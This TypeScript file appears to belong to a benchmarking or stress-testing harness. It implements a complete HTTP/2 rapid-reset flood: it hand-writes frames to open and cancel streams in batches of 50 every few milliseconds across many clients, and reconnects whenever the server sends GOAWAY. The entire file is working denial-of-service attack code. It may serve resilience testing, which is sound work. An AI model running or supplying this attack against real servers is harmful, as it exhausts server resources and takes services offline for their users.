/**
 * HTTP/2 clients that reset each stream as they open it, as fast as they can, and come back when they were thrown out.
 * Frames are written by hand: a client library notices too late that it was thrown out, and then does less harm.
 */
import { setTimeout as delay } from "node:timers/promises";
import { connect, type TLSSocket } from "node:tls";
import { runAsChild } from "../../../bench/processes/run-as-child.ts";
import { type AttackInput, connectionOptions } from "./attack.ts";

export interface ResetsInput extends AttackInput {
  clients: number;
}

export type ResetsReport = Record<"connections" | "resets" | "thrown out", number>;

const PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/** RFC 9113, section 6 */
const FRAME = { headers: 1, resetStream: 3, settings: 4, goaway: 7 } as const;
const END_STREAM_AND_HEADERS = 0x05;
const CANCEL = Buffer.from([0, 0, 0, 8]);
const FRAME_HEADER_BYTES = 9;
/** `:method GET`, `:scheme https`, `:path /` of the static table (RFC 7541, appendix A), and a literal `:authority` */
const FIXED_FIELDS = [0x82, 0x87, 0x84, 0x01];

const STREAMS_AT_ONCE = 50;
const PAUSE_MS = 5;
const REST_MS = 200;

runAsChild<ResetsInput, object>(async (input) => {
  const report: ResetsReport = { connections: 0, resets: 0, "thrown out": 0 };
  const fields = Buffer.from([...FIXED_FIELDS, input.hostname.length, ...Buffer.from(input.hostname)]);

  async function keepResetting(turn: number): Promise<never> {
    for (;;) {
      await delay(REST_MS);
      const socket = connect({ ...connectionOptions(input, turn), ALPNProtocols: ["h2"] });
      const closed = new Promise((resolve) => socket.once("close", resolve));
      socket
        .on("error", () => {})
        .once("secureConnect", () => {
          report.connections += 1;
          socket.write(PREFACE);
          socket.write(encodeFrame(FRAME.settings, 0, 0, Buffer.alloc(0)));
          void resetUntilClosed(socket);
        });
      watchForGoaway(socket, () => {
        report["thrown out"] += 1;
        socket.destroy();
      });
      await closed;
    }
  }

  async function resetUntilClosed(socket: TLSSocket): Promise<void> {
    for (let stream = 1; socket.writable; ) {
      const frames: Buffer[] = [];
      for (let opened = 0; opened < STREAMS_AT_ONCE; opened++, stream += 2) {
        frames.push(encodeFrame(FRAME.headers, END_STREAM_AND_HEADERS, stream, fields));
        frames.push(encodeFrame(FRAME.resetStream, 0, stream, CANCEL));
      }
      socket.write(Buffer.concat(frames));
      report.resets += STREAMS_AT_ONCE;
      await delay(PAUSE_MS);
    }
  }

  for (let turn = 0; turn < input.clients; turn++) void keepResetting(turn);
  return { output: {}, report: () => report };
});

function encodeFrame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(FRAME_HEADER_BYTES);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  header[4] = flags;
  header.writeUInt32BE(stream, 5);
  return Buffer.concat([header, payload]);
}

function watchForGoaway(socket: TLSSocket, onGoaway: () => void): void {
  let received = Buffer.alloc(0);
  socket.on("data", (chunk: Buffer) => {
    received = Buffer.concat([received, chunk]);
    while (received.length >= FRAME_HEADER_BYTES) {
      const frameBytes = FRAME_HEADER_BYTES + received.readUIntBE(0, 3);
      if (received.length < frameBytes) return;
      if (received[3] === FRAME.goaway) return onGoaway();
      received = received.subarray(frameBytes);
    }
  });
}
